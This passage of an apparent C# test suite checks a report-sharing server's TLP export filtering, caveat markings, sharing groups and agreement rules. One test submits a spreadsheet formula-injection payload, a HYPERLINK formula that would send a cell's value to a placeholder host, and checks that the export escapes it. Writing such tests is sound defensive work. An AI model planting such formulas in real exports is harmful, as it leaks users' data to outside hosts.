using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Concord.Server.Audit;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Routing;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Concord.Server.Tests;

public abstract class SharingTests<TServer>(TServer server) : IClassFixture<TServer>
    where TServer : TestServer
{
    private static Guid Id(JsonElement e, string property = "id") => e.GetProperty(property).GetGuid();

    [Fact]
    public async Task Exports_carry_only_what_the_tlp_allows_for_the_audience()
    {
        var client = server.ClientFor("joc");
        var tag = "tlp" + Guid.NewGuid().ToString("N")[..8];
        var ids = new Dictionary<string, Guid>();
        foreach (var tlp in new[] { "clear", "green", "amber", "amber+strict", "red" })
        {
            var (_, created) = await client.PostJson("/api/reports", new Dictionary<string, object?>(Api.Fields(Api.Report(narrative: $"{tag} {tlp}"))) { ["tlp"] = tlp });
            ids[tlp] = Id(created);
        }

        async Task<HashSet<Guid>> Export(string audience)
        {
            var response = await client.GetAsync($"/api/exports/reports.csv?audience={audience}&organization=JOC&from=2026-10-01T00:00:00Z");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            var text = await response.Content.ReadAsStringAsync();
            return text.Split('\n').Skip(1).Where(l => l.Contains(tag, StringComparison.Ordinal)).Select(l => Guid.Parse(l[..36])).ToHashSet();
        }

        Assert.Equal([ids["clear"]], await Export("public"));
        Assert.Equal(new[] { ids["clear"], ids["green"] }.ToHashSet(), await Export("community"));
        Assert.Equal(new[] { ids["clear"], ids["green"], ids["amber"] }.ToHashSet(), await Export("clients"));
        Assert.Equal(new[] { ids["clear"], ids["green"], ids["amber"], ids["amber+strict"] }.ToHashSet(), await Export("organization"));
        // A record under a caveat (a compartment) goes to the exporter's organisation only, whatever its TLP.
        var site = Api.Report(narrative: $"{tag} deconfliction", marking: Api.Marking("UNCLASSIFIED", ["org:JOC"], ["DECONFLICTION-ONLY"]));
        var (_, caveated) = await client.PostJson("/api/reports", new Dictionary<string, object?>(Api.Fields(site)) { ["tlp"] = "clear" });
        Assert.DoesNotContain(Id(caveated), await Export("public"));
        Assert.DoesNotContain(Id(caveated), await Export("clients"));
        Assert.Contains(Id(caveated), await Export("organization"));
        // Every export is audited, unclassified ones too: who took how many rows, for which audience.
        var exports = await server.WithDbAsync(db => db.Audit.AsNoTracking().Where(a => a.Action == Audit.AuditActions.Export && a.Actor == "joc" && a.Detail.Contains("audience=public")).ToListAsync());
        Assert.NotEmpty(exports);
        Assert.All(exports, e => Assert.Contains("\"audience\":\"public\"", e.Detail, StringComparison.Ordinal));
        var (missing, problem) = await client.GetJson("/api/exports/reports.csv");
        Assert.Equal(HttpStatusCode.BadRequest, missing.StatusCode);
        Assert.Equal(["audience"], problem.ErrorFields());
        var (_, report) = await client.GetJson($"/api/reports/{ids["amber+strict"]}");
        Assert.Equal("TLP:AMBER+STRICT", report.GetProperty("tlp").GetString());

        // A narrative a spreadsheet would run as a formula goes out as text.
        var (_, formula) = await client.PostJson("/api/reports", new Dictionary<string, object?>(Api.Fields(Api.Report(narrative: $"=HYPERLINK(\"http://x.invalid/?\"&A1,\"{tag}\")"))) { ["tlp"] = "clear" });
        var exported = await (await client.GetAsync("/api/exports/reports.csv?audience=public&organization=JOC&from=2026-10-01T00:00:00Z")).Content.ReadAsStringAsync();
        var line = exported.Split('\n').Single(l => l.StartsWith(Id(formula).ToString(), StringComparison.Ordinal));
        Assert.Contains($",\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"{tag}\"\")\",", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_export_opens_in_spreadsheet_software_with_its_accents_and_exports_and_counts_carry_their_marking()
    {
        var client = server.ClientFor("joc");
        var tag = "xl" + Guid.NewGuid().ToString("N")[..8];
        var (created, _) = await client.PostJson("/api/reports", Api.Report(narrative: $"Attaque à Ndélé, Ouham-Pendé ({tag})",
            marking: Api.Marking("CONFIDENTIAL", ["org:JOC"], ["DECONFLICTION-ONLY"])));
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        // UTF-8 with its byte order mark and CRLF line ends, as spreadsheet software reads a CSV file; the file's headers
        // name its highest level and every caveat its rows carry.
        var response = await client.GetAsync($"/api/exports/reports.csv?audience=organization&q={tag}");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var text = System.Text.Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith("id,observed_at,", text, StringComparison.Ordinal);
        Assert.Equal(2, text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
        Assert.DoesNotContain('\n', text.Replace("\r\n", "", StringComparison.Ordinal));
        Assert.Contains("Attaque à Ndélé, Ouham-Pendé", text, StringComparison.Ordinal);
        Assert.Equal("CONFIDENTIAL", response.Headers.GetValues("X-Concord-Classification").Single());
        Assert.Equal("DECONFLICTION-ONLY", response.Headers.GetValues("X-Concord-Caveats").Single());

        // Counts are figures from those records: marked as hotspots are, with the highest level and every caveat counted.
        var (_, count) = await client.GetJson($"/api/reports/count?q={tag}");
        Assert.Equal(1, count.GetProperty("count").GetInt64());
        Assert.Equal("CONFIDENTIAL", count.GetProperty("classification").GetString());
        Assert.Equal(["DECONFLICTION-ONLY"], count.GetProperty("caveats").EnumerateArray().Select(c => c.GetString()));
        var (_, byCategory) = await client.GetJson($"/api/reports/by-category?q={tag}");
        Assert.Equal(1, Assert.Single(byCategory.GetProperty("items").EnumerateArray()).GetProperty("count").GetInt64());
        Assert.Equal("CONFIDENTIAL", byCategory.GetProperty("classification").GetString());
        Assert.Equal(["DECONFLICTION-ONLY"], byCategory.GetProperty("caveats").EnumerateArray().Select(c => c.GetString()));
        var (_, none) = await client.GetJson($"/api/reports/count?q=nothing{tag}");
        Assert.Equal("UNCLASSIFIED", none.GetProperty("classification").GetString());
        Assert.Empty(none.GetProperty("caveats").EnumerateArray());
    }

    [Fact]
    public async Task Caveats_are_listed_with_the_bit_that_stands_for_them_in_GeoJSON_caveat_sets()
    {
        // GeoJSON properties carry a record's caveats as a set of bits; the list of caveats says which bit is which.
        var code = "CV-" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var (added, caveat) = await server.ClientFor("jocadmin").PostJson("/api/caveats", new { code, description = "Bit test" });
        Assert.Equal(HttpStatusCode.Created, added.StatusCode);
        var (_, list) = await server.ClientFor("joc").GetJson("/api/caveats");
        var bits = list.EnumerateArray().ToDictionary(c => c.GetProperty("code").GetString()!, c => c.GetProperty("bit").GetInt32());
        Assert.Equal(caveat.GetProperty("bit").GetInt32(), bits[code]);
        Assert.Equal(bits.Count, bits.Values.Distinct().Count());

        var tag = "bits" + Guid.NewGuid().ToString("N")[..8];
        var (created, report) = await server.ClientFor("joc").PostJson("/api/reports", Api.Report(narrative: $"Caveat bits ({tag}).",
            marking: Api.Marking("CONFIDENTIAL", ["org:JOC"], ["SOURCE-PROTECTED", "DECONFLICTION-ONLY"])));
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var (_, geojson) = await server.ClientFor("joc").GetJson($"/api/incidents/geojson?q={tag}");
        var feature = geojson.GetProperty("features").EnumerateArray().Single(f => f.GetProperty("id").GetGuid() == report.GetProperty("incidentId").GetGuid());
        Assert.Equal((1L << bits["SOURCE-PROTECTED"]) | (1L << bits["DECONFLICTION-ONLY"]), feature.GetProperty("properties").GetProperty("caveats").GetInt64());
    }

    [Fact]
    public async Task A_caveat_defined_beside_the_server_is_known_at_once()
    {
        // Another node, or `concord caveat add` and `concord user add` beside the server, defines a caveat and a member who
        // holds it: this node knows it at the member's first report, not up to 30 s later (the report refused meanwhile).
        var code = "CV-" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var user = "cv" + Guid.NewGuid().ToString("N")[..8];
        var secret = await server.WithDbAsync(async db =>
        {
            var time = server.Services.GetRequiredService<TimeProvider>();
            var (caveat, refused) = await Sharing.CaveatAdmin.AddAsync(db, code, "Defined elsewhere", CancellationToken.None);
            Assert.Null(refused);
            await db.SaveChangesAsync();
            // As another process knows it: from the store.
            var elsewhere = new Access.CaveatRegistry();
            elsewhere.Load(await db.Caveats.AsNoTracking().ToListAsync());
            var (member, error) = await Accounts.MemberAdmin.AddAsync(db, new Accounts.NewMember(user, "JOC", null, ["reporter"], "CONFIDENTIAL", [code], TestServer.Password),
                server.Services.GetRequiredService<Access.ClassificationScheme>(), elsewhere, time, CancellationToken.None);
            Assert.Null(error);
            await db.SaveChangesAsync();
            return (await Accounts.AccessTokens.CreateAsync(db, server.Services.GetRequiredService<AuditChain>(), null, member!, "tests", TimeSpan.FromHours(1), time, CancellationToken.None)).Item2;
        });
        var client = server.Anonymous();
        client.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", secret);

        var (created, report) = await client.PostJson("/api/reports", Api.Report(narrative: "Seen under a caveat defined elsewhere.",
            marking: Api.Marking("CONFIDENTIAL", ["org:JOC"], [code])));
        Assert.True(created.StatusCode == HttpStatusCode.Created, report.ToString());
        Assert.Equal([code], report.GetProperty("marking").GetProperty("caveats").EnumerateArray().Select(c => c.GetString()));
    }

    [Fact]
    public async Task A_group_membership_removal_that_races_an_addition_is_refused_rather_than_said_done()
    {
        var code = "RWG" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var admin = server.ClientFor("unpoladmin");
        Assert.Equal(HttpStatusCode.Created, (await admin.PostJson("/api/groups", new { code, name = "Returns working group" })).Response.StatusCode);
        var (groupId, ocha) = await server.WithDbAsync(async db => (await db.SharingGroups.Where(g => g.Code == code).Select(g => g.Id).SingleAsync(),
            await db.Organizations.Where(o => o.Code == "OCHA").Select(o => o.Id).SingleAsync()));

        // OCHA is added while a removal is under way: the removal read "not a member", and waits for the audit writer
        // while the addition is stored.
        var release = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var addition = await server.HoldAuditWriterAsync(release.Task, db =>
        {
            db.SharingGroupMembers.Add(new Sharing.SharingGroupMember { GroupId = groupId, OrganizationId = ocha });
            return Task.CompletedTask;
        });
        var removal = admin.DeleteAsync($"/api/groups/{code}/members/OCHA");
        await Task.Delay(500);
        release.SetResult();
        await addition;
        var answer = await removal;

        // It did not remove OCHA: it says so (it answered 204 and audited a removal while OCHA stayed in the group).
        Assert.Equal(HttpStatusCode.Conflict, answer.StatusCode);
        Assert.Equal(["organization"], (await answer.Json()).ErrorFields());
        Assert.True(await server.WithDbAsync(db => db.SharingGroupMembers.AnyAsync(m => m.GroupId == groupId && m.OrganizationId == ocha)));
        Assert.DoesNotContain(await server.WithDbAsync(db => db.Audit.Where(a => a.Entity == "group" && a.Detail.Contains(code)).Select(a => a.Detail).ToListAsync()),
            d => d.Contains("\"added\":false", StringComparison.Ordinal));
        // Sent again, it removes OCHA.
        Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync($"/api/groups/{code}/members/OCHA")).StatusCode);
        Assert.False(await server.WithDbAsync(db => db.SharingGroupMembers.AnyAsync(m => m.GroupId == groupId && m.OrganizationId == ocha)));
    }

    [Fact]
    public async Task An_agreement_rule_whose_label_says_something_else_than_its_marking_is_refused_and_one_sent_as_read_passes()
    {
        // A rule releasing UNPOL's reports to the military, labelled as if they stayed within UNPOL: the label would be
        // stored and shown to every party as the rule's.
        object Body(string code, string label) => new
        {
            code,
            name = "UNPOL–force MOU",
            parties = new[] { "UNPOL", "FORCE" },
            rules = new[]
            {
                new
                {
                    reporter = "org:UNPOL",
                    category = "poc",
                    marking = new { classification = "CONFIDENTIAL", releasableTo = new[] { "kind:military", "org:UNPOL" }, caveats = Array.Empty<string>(), label },
                    tlp = "amber",
                },
            },
        };
        var code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var (refused, problem) = await server.ClientFor("unpoladmin").PostJson("/api/agreements", Body(code, "CONFIDENTIAL//REL TO ORG:UNPOL"));
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Equal(["rules[0].marking.label"], problem.ErrorFields());
        Assert.Null(await server.WithDbAsync(db => db.Agreements.Where(a => a.Code == code).Select(a => (int?)a.Version).FirstOrDefaultAsync()));

        var (created, agreement) = await server.ClientFor("unpoladmin").PostJson("/api/agreements", Body(code, "confidential//rel to kind:military, org:unpol"));
        Assert.True(created.StatusCode == HttpStatusCode.Created, agreement.ToString());
        // Retired: other tests of this server read the defaults UNPOL's agreements give its reports.
        Assert.Equal(HttpStatusCode.NoContent, (await server.ClientFor("unpoladmin").DeleteAsync($"/api/agreements/{code}")).StatusCode);
    }

    [Fact]
    public async Task A_release_to_a_nation_no_organisation_has_is_refused_as_a_mistyped_code_would_be()
    {
        // RWD for RWA: every report the rule marks, or the one report so marked, would reach nobody beyond its author.
        var (agreement, agreementProblem) = await server.ClientFor("unpoladmin").PostJson("/api/agreements", new
        {
            code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant(),
            name = "UNPOL–Rwandan battalion MOU",
            parties = new[] { "UNPOL", "RWABATT" },
            rules = new[] { new { reporter = "org:UNPOL", category = "poc", marking = Api.Marking("UNCLASSIFIED", ["nation:RWD", "org:UNPOL"]), tlp = "amber" } },
        });
        Assert.Equal(HttpStatusCode.BadRequest, agreement.StatusCode);
        Assert.Equal(["rules[0].marking.releasableTo"], agreementProblem.ErrorFields());
        Assert.Equal("no organisation has the nation 'RWD'", agreementProblem.GetProperty("errors").GetProperty("rules[0].marking.releasableTo")[0].GetString());
        var (mistyped, problem) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("UNCLASSIFIED", ["nation:RWD"])));
        Assert.Equal(HttpStatusCode.BadRequest, mistyped.StatusCode);
        Assert.Equal(["marking.releasableTo"], problem.ErrorFields());
        // The battalion's nation is one an organisation has.
        Assert.Equal(HttpStatusCode.Created, (await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("UNCLASSIFIED", ["nation:RWA"])))).Response.StatusCode);
    }

    [Fact]
    public async Task A_sharing_group_opens_records_to_its_member_organisations_and_only_its_owner_manages_it()
    {
        var code = "PWG" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var admin = server.ClientFor("unpoladmin");
        var (created, group) = await admin.PostJson("/api/groups", new { code, name = "Protection working group" });
        Assert.True(created.StatusCode == HttpStatusCode.Created, group.ToString());
        // A mistyped organisation is named (a bare 404 left the administrator to guess which of the two was wrong); an
        // unknown group is still a 404.
        var mistyped = await admin.PutAsync($"/api/groups/{code}/members/OHCA", null);
        Assert.Equal(HttpStatusCode.BadRequest, mistyped.StatusCode);
        Assert.Equal(["organization"], (await mistyped.Json()).ErrorFields());
        Assert.Equal(HttpStatusCode.NotFound, (await admin.DeleteAsync($"/api/groups/NOPE{code}/members/OCHA")).StatusCode);
        var added = await admin.PutAsync($"/api/groups/{code}/members/OCHA", null);
        var (posted, report) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(marking: Api.Marking("CONFIDENTIAL", [$"group:{code}"])));
        Assert.True(posted.StatusCode == HttpStatusCode.Created, report.ToString());
        var path = $"/api/reports/{Id(report)}";

        var ochaSees = await server.ClientFor("ocha").GetAsync(path);
        var forceSees = await server.ClientFor("force").GetAsync(path);
        var foreignAdmin = await server.ClientFor("jocadmin").DeleteAsync($"/api/groups/{code}/members/OCHA");
        var foreignAdd = await server.ClientFor("jocadmin").PutAsync($"/api/groups/{code}/members/FORCE", null);
        var ochaBetween = await server.ClientFor("ocha").GetAsync(path);
        var byOwner = await admin.DeleteAsync($"/api/groups/{code}/members/OCHA");
        var ochaAfter = await server.ClientFor("ocha").GetAsync(path);
        var (_, groups) = await server.ClientFor("pref").GetJson("/api/groups");

        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, added.StatusCode);
        Assert.Equal(HttpStatusCode.OK, ochaSees.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, forceSees.StatusCode);
        // A mission administrator of another organisation is not the owner's: refused (OCHA stayed in until the owner removed it).
        Assert.Equal(HttpStatusCode.Forbidden, foreignAdmin.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, foreignAdd.StatusCode);
        Assert.Equal(HttpStatusCode.OK, ochaBetween.StatusCode);
        Assert.Equal(HttpStatusCode.NoContent, byOwner.StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, ochaAfter.StatusCode);
        Assert.Equal(["UNPOL"], groups.EnumerateArray().Single(g => g.GetProperty("code").GetString() == code).GetProperty("members").EnumerateArray().Select(m => m.GetString()!).ToArray());
        var (notOwner, _) = await server.ClientFor("ocha").PostJson("/api/groups", new { code = code + "X", name = "x" });
        Assert.Equal(HttpStatusCode.Forbidden, notOwner.StatusCode);
        // Each change of membership is a change of the group in the feed (open pages read again what their members may see);
        // removing an organisation that is no longer a member changes nothing.
        var groupId = await server.WithDbAsync(db => db.SharingGroups.Where(g => g.Code == code).Select(g => g.Id).SingleAsync());
        Assert.Equal(["created", "updated", "updated"], await server.ClientFor("ocha").ChangesOfAsync(groupId));
    }

    /// <summary>Records an agreement of UNPOL's alone with one rule for its reports of <paramref name="category"/>; its code.</summary>
    private async Task<string> UnpolRuleAsync(string name, string category, object marking, string tlp)
    {
        var code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var (recorded, _) = await server.ClientFor("unpoladmin").PostJson("/api/agreements", new
        {
            code,
            name,
            parties = new[] { "UNPOL" },
            rules = new[] { new { reporter = "org:UNPOL", category, marking, tlp } },
        });
        Assert.Equal(HttpStatusCode.Created, recorded.StatusCode);
        return code;
    }

    [Fact]
    public async Task A_party_this_server_does_not_know_yet_keeps_its_say_over_the_agreement()
    {
        // An organisation created on another node a moment ago, party to an agreement: this node's cache of organisations
        // did not know it, counted it as no party, and let another party take it out of the agreement.
        var code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        // One rule, for a category no other test of this class reports in, at the marking UNPOL's reports take anyway.
        var rules = new[] { new { reporter = "org:UNPOL", category = "ocha-access.3-impediments-to-entry", marking = Api.Marking("UNCLASSIFIED", ["org:UNPOL"]), tlp = "amber" } };
        var (recorded, _) = await server.ClientFor("unpoladmin").PostJson("/api/agreements", new { code, name = "Late party", parties = new[] { "UNPOL" }, rules });
        Assert.Equal(HttpStatusCode.Created, recorded.StatusCode);
        var late = "LATE" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        await server.WithDbAsync(async db =>
        {
            db.Organizations.Add(new Organizations.Organization { Id = Guid.NewGuid(), Code = late, Name = "Late Agency", Kind = Access.OrganizationKind.Humanitarian, CreatedAt = DateTime.UtcNow });
            await db.SaveChangesAsync();
            return await db.Agreements.Where(a => a.Code == code).ExecuteUpdateAsync(u => u.SetProperty(a => a.Parties, Access.Releasability.Encode(["org:UNPOL", "org:" + late])));
        });
        // Past the interval within which this server reads its organisations at most once.
        await Task.Delay(2100);

        var dropped = await server.ClientFor("unpoladmin").PutAsJsonAsync($"/api/agreements/{code}", new { name = "Late party", parties = new[] { "UNPOL" }, rules });

        Assert.Equal(HttpStatusCode.Forbidden, dropped.StatusCode);
        Assert.Contains(late + " is a party", (await dropped.Json()).GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NoContent, (await server.ClientFor("jocadmin").DeleteAsync($"/api/agreements/{code}")).StatusCode);
    }

    [Fact]
    public async Task An_agreement_retired_on_another_node_stops_marking_this_nodes_reports_within_a_second()
    {
        // This node read the agreements at most every 30 s: reports written meanwhile were marked by the retired (or
        // replaced) rules, and a report keeps its marking, so those released to the whole mission stayed so.
        var category = "ocha-access.2-restriction-of-access-to-services";
        var code = await UnpolRuleAsync("UNPOL services access", category, Api.Marking("UNCLASSIFIED", ["mission"]), "amber");
        var (_, before) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Fields(Api.Report(category: category, marking: null), without: "marking"));
        Assert.Equal(["mission", "org:UNPOL"], before.GetProperty("marking").GetProperty("releasableTo").EnumerateArray().Select(c => c.GetString()));

        // Retired elsewhere (another node, or `concord agreement retire` beside this server): nothing here was told.
        await server.WithDbAsync(db => db.Agreements.Where(a => a.Code == code).ExecuteUpdateAsync(u => u.SetProperty(a => a.RetiredAt, DateTime.UtcNow)));
        await Task.Delay(Data.MissionDirectory.AgreementsCheckedEvery + TimeSpan.FromMilliseconds(200));
        var (created, after) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Fields(Api.Report(category: category, marking: null), without: "marking"));

        Assert.True(created.StatusCode == HttpStatusCode.Created, after.ToString());
        Assert.Equal(["org:UNPOL"], after.GetProperty("marking").GetProperty("releasableTo").EnumerateArray().Select(c => c.GetString()));
        Assert.False(after.TryGetProperty("agreement", out _), after.ToString());
    }

    [Fact]
    public async Task A_caveat_written_with_spaces_in_a_rule_is_the_caveat()
    {
        // The rule's caveat code was typed with a space before it: accepted as the caveat, it must mark as the caveat too,
        // not make every report in its category "looser" than the agreement (refused to reporters, audited for releasers).
        await UnpolRuleAsync("UNPOL school attacks", "poc.attacks-on-schools-and-hospitals", Api.Marking("CONFIDENTIAL", ["org:UNPOL"], [" SOURCE-PROTECTED"]), "amber");
        var (byDefault, report) = await server.ClientFor("unpol").PostJson("/api/reports",
            Api.Fields(Api.Report(category: "poc.attacks-on-schools-and-hospitals", marking: null), without: "marking"));
        Assert.True(byDefault.StatusCode == HttpStatusCode.Created, report.ToString());
        Assert.Equal(["SOURCE-PROTECTED"], report.GetProperty("marking").GetProperty("caveats").EnumerateArray().Select(c => c.GetString()));
        var (given, givenReport) = await server.ClientFor("unpoladmin").PostJson("/api/reports",
            Api.Report(category: "poc.attacks-on-schools-and-hospitals", marking: Api.Marking("CONFIDENTIAL", ["org:UNPOL"], ["SOURCE-PROTECTED"])));
        Assert.Equal(HttpStatusCode.Created, given.StatusCode);
        Assert.DoesNotContain(AuditActions.MarkingLoosened, await server.WithDbAsync(db => db.Audit.Where(a => a.EntityId == Id(givenReport)).Select(a => a.Action).ToListAsync()));
    }

    [Fact]
    public async Task A_default_marking_its_author_could_not_read_back_is_refused_not_stored()
    {
        // UNPOL agreed to mark its sexual-violence reports DECONFLICTION-ONLY, a caveat its reporter does not hold: stored, the
        // report would answer its own author 404, and a retry 409.
        var code = await UnpolRuleAsync("UNPOL protection caveat", "poc.sexual-and-gender-based-violence", Api.Marking("CONFIDENTIAL", ["org:UNPOL"], ["DECONFLICTION-ONLY"]), "red");
        var id = Guid.NewGuid();
        var (refused, problem) = await server.ClientFor("unpol").PostJson("/api/reports",
            Api.Fields(Api.Report(id: id, category: "poc.sexual-and-gender-based-violence", marking: null), without: "marking"));

        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
        Assert.Equal(["marking"], problem.ErrorFields());
        Assert.Contains($"agreement {code}", problem.GetProperty("errors").GetProperty("marking")[0].GetString(), StringComparison.Ordinal);
        Assert.False(await server.WithDbAsync(db => db.Reports.AnyAsync(r => r.Id == id)));
        // A releaser may give such a report a marking they may read (looser than the agreement: audited as loosened).
        var (explicitly, _) = await server.ClientFor("unpoladmin").PostJson("/api/reports",
            Api.Report(category: "poc.sexual-and-gender-based-violence", marking: Api.Marking("CONFIDENTIAL", ["org:UNPOL"])));
        Assert.Equal(HttpStatusCode.Created, explicitly.StatusCode);
    }

    [Fact]
    public async Task A_retry_of_a_stored_report_is_answered_with_it_after_its_author_loses_the_role_that_let_it_be_written()
    {
        var code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var (recorded, _) = await server.ClientFor("unpoladmin").PostJson("/api/agreements", new
        {
            code,
            name = "UNPOL–Force abduction reporting MOU",
            parties = new[] { "UNPOL", "FORCE" },
            rules = new[] { new { reporter = "org:UNPOL", category = "poc", marking = Api.Marking("CONFIDENTIAL", ["kind:military", "org:JOC"]), tlp = "amber+strict" } },
        });
        Assert.Equal(HttpStatusCode.Created, recorded.StatusCode);
        // Retired at the end: other tests of this server read the defaults UNPOL's agreements give its reports.
        try
        {
            var name = "rel" + Guid.NewGuid().ToString("N")[..8];
            var admin = await server.SignedInAsync("unpoladmin");
            Assert.Equal(HttpStatusCode.Created, (await admin.PostJson("/api/organizations/UNPOL/members",
                new { userName = name, password = TestServer.Password, clearance = "CONFIDENTIAL", roles = new[] { "reporter", "releaser" } })).Response.StatusCode);
            using var releaser = await server.SignedInAsync(name);

            // A releaser files a report looser than the agreement; the answer is lost on the way back.
            var id = Guid.NewGuid();
            var body = Api.Report(id, category: "poc.abduction", marking: Api.Marking("UNCLASSIFIED", ["mission"]), narrative: "Two aid workers taken at the Kabo checkpoint.");
            Assert.Equal(HttpStatusCode.Created, (await releaser.PostJson("/api/reports", body)).Response.StatusCode);
            // The role is taken away before the retry: the retry is still answered with the stored report, not refused as new.
            Assert.Equal(HttpStatusCode.OK, (await admin.PatchAsJsonAsync($"/api/members/{name}", new { roles = new[] { "reporter" } })).StatusCode);
            var (again, stored) = await releaser.PostJson("/api/reports", body);
            Assert.True(again.StatusCode == HttpStatusCode.OK, stored.ToString());
            Assert.Equal((id, "UNCLASSIFIED"), (stored.GetProperty("id").GetGuid(), stored.GetProperty("marking").GetProperty("classification").GetString()));
            // A new report so marked is theirs to file no longer; nor is the stored one's id with another body.
            var (fresh, freshProblem) = await releaser.PostJson("/api/reports", Api.Report(category: "poc.abduction", marking: Api.Marking("UNCLASSIFIED", ["mission"])));
            Assert.Equal(HttpStatusCode.BadRequest, fresh.StatusCode);
            Assert.Equal(["marking"], freshProblem.ErrorFields());
            var (changed, _) = await releaser.PostJson("/api/reports", Api.Report(id, category: "poc.abduction", marking: Api.Marking("UNCLASSIFIED", ["mission"]), narrative: "Three aid workers taken."));
            Assert.Equal(HttpStatusCode.BadRequest, changed.StatusCode);
            Assert.Equal(1, await server.WithDbAsync(db => db.Reports.CountAsync(r => r.Id == id)));
        }
        finally
        {
            Assert.Equal(HttpStatusCode.NoContent, (await server.ClientFor("unpoladmin").DeleteAsync($"/api/agreements/{code}")).StatusCode);
        }
    }

    [Fact]
    public async Task An_agreement_marks_reports_by_default_and_only_a_releaser_may_loosen_it()
    {
        var code = "MOU" + Guid.NewGuid().ToString("N")[..6].ToUpperInvariant();
        var agreement = new
        {
            code,
            name = "UNPOL–Force information sharing MOU",
            parties = new[] { "UNPOL", "FORCE" },
            rules = new[]
            {
                new { reporter = "org:UNPOL", category = "poc", marking = Api.Marking("CONFIDENTIAL", ["kind:military", "org:JOC"]), tlp = "amber+strict" },
            },
        };
        var (recorded, v1) = await server.ClientFor("unpoladmin").PostJson("/api/agreements", agreement);
        Assert.Equal(HttpStatusCode.Created, recorded.StatusCode);

        var (_, byDefault) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Fields(Api.Report(category: "poc.abduction", marking: null), without: "marking"));
        var (looser, problem) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(category: "poc.abduction", marking: Api.Marking("UNCLASSIFIED", ["mission"])));
        var (stricter, _) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Fields(Api.Report(category: "poc.abduction", marking: Api.Marking("CONFIDENTIAL", ["org:JOC"], ["SOURCE-PROTECTED"])), tlp: "red"));
        var (byReleaser, loosened) = await server.ClientFor("unpoladmin").PostJson("/api/reports", Api.Report(category: "poc.abduction", marking: Api.Marking("UNCLASSIFIED", ["mission"])));
        var (otherCategory, free) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Report(category: "acled.riots", marking: Api.Marking("UNCLASSIFIED", ["mission"])));
        // Marked by the agreement, but with a wider TLP: as loose as a looser marking.
        var (widerTlp, tlpProblem) = await server.ClientFor("unpol").PostJson("/api/reports", Api.Fields(Api.Fields(Api.Report(category: "poc.abduction", marking: null), without: "marking"), tlp: "clear"));
        // The agreement's marking given as it is, with a wider TLP: the TLP is the field refused, not the marking.
        var (givenWiderTlp, givenTlpProblem) = await server.ClientFor("unpol").PostJson("/api/reports",
            Api.Fields(Api.Report(category: "poc.abduction", marking: Api.Marking("CONFIDENTIAL", ["kind:military", "org:JOC"])), tlp: "clear"));
        // Both looser: each field says its own.
        var (bothLooser, bothProblem) = await server.ClientFor("unpol").PostJson("/api/reports",
            Api.Fields(Api.Report(category: "poc.abduction", marking: Api.Marking("UNCLASSIFIED", ["kind:military", "org:JOC"])), tlp: "clear"));
        var (widerTlpByReleaser, tlpLoosened) = await server.ClientFor("unpoladmin").PostJson("/api/reports", Api.Fields(Api.Fields(Api.Report(category: "poc.abduction", marking: null), without: "marking"), tlp: "green"));

        var marking = byDefault.GetProperty("marking");
        Assert.Equal("CONFIDENTIAL", marking.GetProperty("classification").GetString());
        Assert.Equal(["kind:military", "org:JOC", "org:UNPOL"], marking.GetProperty("releasableTo").EnumerateArray().Select(c => c.GetString()!).ToArray());
        Assert.Equal("TLP:AMBER+STRICT", byDefault.GetProperty("tlp").GetString());
        Assert.Equal(Id(v1), byDefault.GetProperty("agreement").GetProperty("id").GetGuid());
        Assert.Equal(1, byDefault.GetProperty("agreement").GetProperty("version").GetInt32());
        Assert.Equal(HttpStatusCode.BadRequest, looser.StatusCode);
        Assert.Contains("only a releaser may loosen it", problem.GetProperty("errors").GetProperty("marking")[0].GetString());
        Assert.Equal(HttpStatusCode.Created, stricter.StatusCode);
        Assert.Equal(HttpStatusCode.Created, byReleaser.StatusCode);
        Assert.Equal(HttpStatusCode.Created, otherCategory.StatusCode);
        Assert.Equal("UNCLASSIFIED", free.GetProperty("marking").GetProperty("classification").GetString());
        var entries = await server.WithDbAsync(db => db.Audit.Where(a => a.EntityId == Id(loosened)).Select(a => a.Action).ToListAsync());
